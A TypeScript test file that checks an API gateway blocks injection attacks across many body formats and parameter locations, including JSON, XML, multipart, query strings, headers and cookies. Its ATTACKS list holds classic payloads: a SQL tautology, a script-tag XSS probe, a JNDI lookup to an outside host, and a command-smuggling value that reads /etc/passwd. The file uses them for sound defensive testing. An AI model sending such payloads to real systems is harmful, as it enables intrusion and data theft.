/**
 * Every form: the same texts in each place and each writing in which a request can carry one.
 *
 * A contract that leaves them free, twice behind the gateway: with `injection` waived each attack reaches the API, with it none
 * does, and plain words do.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import type { JsonObject } from "../../src/contract/json-value.ts";
import { REASON, twoDoors } from "../two-doors.ts";

const PLAIN = "plain words & a few more";
const ATTACKS = ["' or 1=1 -- ", "<script>alert(1)</script>", "${jndi:ldap://a.example/c}", "; cat /etc/passwd"] as const;

const text = { type: "string" };
const html = { type: "string", contentMediaType: "text/html" };
const note: JsonObject = { type: "object", properties: { note: text, list: { type: "array", items: text }, inner: { type: "object", properties: { note: text } } } };
const root = { ...note, xml: { name: "root" } };

const part = (head: string, body: string): string => `--x\r\nContent-Disposition: form-data; ${head}\r\n\r\n${body}\r\n--x--\r\n`;
const markup = (value: string): string => value.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
const json = (value: unknown): string => JSON.stringify(value);
const pairs = (...list: readonly (readonly [string, string])[]): string => new URLSearchParams(list.map(([name, value]): [string, string] => [name, value])).toString();

interface Form {
  readonly title: string;
  readonly type: string;
  /** The Media Type Object. */
  readonly media: JsonObject;
  readonly write: (value: string) => string;
}

const FORMS: readonly Form[] = [
  { title: "a member of JSON", type: "application/json", media: { schema: note }, write: (value) => json({ note: value }) },
  { title: "an item of JSON", type: "application/json", media: { schema: note }, write: (value) => json({ list: ["a", value] }) },
  { title: "deeper in JSON", type: "application/json", media: { schema: note }, write: (value) => json({ inner: { note: value } }) },
  { title: "JSON that nobody described", type: "application/json", media: {}, write: (value) => json({ any: [{ thing: value }] }) },
  { title: "a name in JSON", type: "application/json", media: {}, write: (value) => json({ [value]: 1 }) },
  { title: "JSON of a type of its own", type: "application/vnd.notes+json", media: { schema: note }, write: (value) => json({ note: value }) },
  { title: "a form", type: "application/x-www-form-urlencoded", media: { schema: note }, write: (value) => pairs(["note", value]) },
  { title: "a name of a form that comes twice", type: "application/x-www-form-urlencoded", media: { schema: note }, write: (value) => pairs(["list", "a"], ["list", value]) },
  { title: "an object in a form", type: "application/x-www-form-urlencoded", media: { schema: note, encoding: { inner: { style: "deepObject", explode: true } } }, write: (value) => pairs(["inner[note]", value]) },
  { title: "a part", type: "multipart/form-data; boundary=x", media: { schema: note }, write: (value) => part('name="note"', value) },
  { title: "JSON in a part", type: "multipart/form-data; boundary=x", media: { schema: note }, write: (value) => part('name="inner"\r\nContent-Type: application/json', json({ note: value })) },
  { title: "a part that is HTML", type: "multipart/form-data; boundary=x", media: { schema: { type: "object", properties: { note: html } } }, write: (value) => part('name="note"', value) },
  { title: "an element of XML", type: "application/xml", media: { schema: root }, write: (value) => `<root><note>${markup(value)}</note></root>` },
  { title: "deeper in XML", type: "application/soap+xml", media: { schema: root }, write: (value) => `<root><inner><note>${markup(value)}</note></inner></root>` },
  { title: "a CDATA section", type: "application/xml", media: { schema: root }, write: (value) => `<root><note><![CDATA[${value}]]></note></root>` },
  { title: "the second line of many", type: "application/x-ndjson", media: { itemSchema: note }, write: (value) => `${json({ note: "a" })}\n${json({ note: value })}\n` },
  { title: "a sequence of JSON", type: "application/json-seq", media: { itemSchema: note }, write: (value) => `\u001e${json({ note: value })}\n` },
  { title: "an event", type: "text/event-stream", media: { itemSchema: { type: "object", properties: { data: text } } }, write: (value) => `data: ${value}\n\n` },
  { title: "a merge patch", type: "application/merge-patch+json", media: { schema: note }, write: (value) => json({ note: value }) },
  { title: "a patch", type: "application/json-patch+json", media: { schema: note }, write: (value) => json([{ op: "replace", path: "/note", value }]) },
  ...["text/plain", "text/markdown", "text/csv"].map((type): Form => ({ title: type, type, media: { schema: text }, write: (value) => `a,b\n1,${value}` })),
];

interface Spot {
  readonly title: string;
  /** What of the attacks a request can carry here. */
  readonly carries?: (value: string) => boolean;
  readonly parameter: JsonObject;
  readonly ask: (value: string) => { readonly target: string; readonly headers?: Readonly<Record<string, string>> };
}

const SPOTS: readonly Spot[] = [
  { title: "a segment of the path", carries: (value) => !value.includes("/"), parameter: {}, ask: (value) => ({ target: encodeURIComponent(value) }) },
  { title: "a query parameter", parameter: { name: "q", in: "query", schema: text }, ask: (value) => ({ target: `a?q=${encodeURIComponent(value)}` }) },
  { title: "an item of a query parameter", parameter: { name: "q", in: "query", schema: { type: "array", items: text } }, ask: (value) => ({ target: `a?q=a&q=${encodeURIComponent(value)}` }) },
  { title: "a member of a query parameter", parameter: { name: "q", in: "query", style: "deepObject", explode: true, schema: { type: "object", properties: { x: text } } }, ask: (value) => ({ target: `a?q%5Bx%5D=${encodeURIComponent(value)}` }) },
  { title: "JSON in a query parameter", parameter: { name: "q", in: "query", content: { "application/json": { schema: note } } }, ask: (value) => ({ target: `a?q=${encodeURIComponent(json({ note: value }))}` }) },
  { title: "the whole query string", parameter: { name: "q", in: "querystring", content: { "application/x-www-form-urlencoded": { schema: note } } }, ask: (value) => ({ target: `a?note=${encodeURIComponent(value)}` }) },
  { title: "a name in the whole query string", parameter: { name: "q", in: "querystring", content: { "application/x-www-form-urlencoded": { schema: { type: "object", additionalProperties: text } } } }, ask: (value) => ({ target: `a?${encodeURIComponent(value)}=a` }) },
  { title: "a header field", parameter: { name: "X-Note", in: "header", schema: text }, ask: (value) => ({ target: "a", headers: { "x-note": value } }) },
  { title: "a header field that nobody declared", parameter: {}, ask: (value) => ({ target: "a", headers: { "x-other": value } }) },
  { title: "the user agent", parameter: {}, ask: (value) => ({ target: "a", headers: { "user-agent": value } }) },
  { title: "a cookie", parameter: { name: "note", in: "cookie", schema: text }, ask: (value) => ({ target: "a", headers: { cookie: `note=${encodeURIComponent(value)}` } }) },
];

const responses = { "200": { description: "Fine." } };
const CONTRACT: JsonObject = {
  openapi: "3.2.0",
  info: { title: "notes", version: "1" },
  paths: Object.fromEntries([
    ...FORMS.map(({ type, media }, at) => [`/forms/${at}`, { post: { operationId: `form${at}`, security: [], requestBody: { required: true, content: { [type.replace(/;.*/, "")]: media } }, responses } }]),
    ...SPOTS.map(({ parameter }, at) => [`/spots/${at}/{id}`, { get: { operationId: `spot${at}`, security: [], parameters: [{ name: "id", in: "path", required: true, schema: text }, ...(Object.hasOwn(parameter, "name") ? [parameter] : [])], responses } }]),
  ]) as JsonObject,
};

const ask = twoDoors(CONTRACT, { injection: { waived: REASON } });

function judge(title: string, attacks: readonly string[], requestOf: (value: string) => { readonly target: string; readonly init: RequestInit }): void {
  test(`${title}: open without injection, closed with it, and plain words pass`, async () => {
    const send = (door: "open" | "closed", value: string): Promise<number> => {
      const { target, init } = requestOf(value);
      return ask(door, target, init);
    };
    assert.equal(await send("closed", PLAIN), 200);
    for (const attack of attacks) assert.deepEqual([await send("open", attack), await send("closed", attack)], [200, 400], attack);
  });
}

for (const [at, { title, type, write }] of FORMS.entries()) judge(title, ATTACKS, (value) => ({ target: `/forms/${at}`, init: { method: "POST", body: write(value), headers: { "content-type": type } } }));
for (const [at, { title, carries = () => true, ask: askAt }] of SPOTS.entries()) {
  judge(title, ATTACKS.filter(carries), (value) => {
    const { target, headers } = askAt(value);
    return { target: `/spots/${at}/${target}`, init: headers === undefined ? {} : { headers } };
  });
}
